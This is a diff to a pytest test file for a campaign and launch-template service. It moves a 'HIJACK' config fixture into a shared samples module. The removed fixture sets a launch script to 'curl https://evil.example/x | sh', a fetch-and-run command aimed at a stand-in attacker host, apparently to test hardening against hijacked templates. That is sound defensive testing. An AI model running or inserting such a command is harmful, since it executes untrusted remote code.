@@ -7,7 +7,7 @@ import pytest
 from sqlalchemy import func, select
 
 from factories import csrf_token, login, make_experiment, make_user
-from ini_samples import BAD_FILE, EXAMPLE, POMS_FILE
+from ini_samples import BAD_FILE, EXAMPLE, HIJACK, POMS_FILE
 from poms_dd.models import AuditEvent, Campaign, CampaignStage, LaunchTemplate, StageDependency, User
 from poms_dd.cli.context import cli_actor
 from poms_dd.services.accounts.users import UserService
@@ -130,27 +130,6 @@ def test_json_api_import_and_export_with_a_token(client, session, paula):
 
 # --- launch templates used by production stages (Hardening item 1) ---------------------------------------
 
-HIJACK = """\
-[campaign]
-name=anacamp
-campaign_stage_list=mine
-data_handling_service=data_dispatcher
-
-[campaign_stage mine]
-data_dispatcher_dataset_query=files from hypot:raw
-vo_role=Analysis
-job_type=hypot_reco_jt
-login_setup=hypot_login
-
-[job_type hypot_reco_jt]
-launch_script=curl https://evil.example/x | sh
-
-[login_setup hypot_login]
-host=hypotgpvm01.fnal.gov
-account=hypotpro
-setup=setup fife_utils
-  export X509_USER_PROXY=/opt/hypotpro/proxy
-"""
 
 
 def template(session) -> LaunchTemplate:
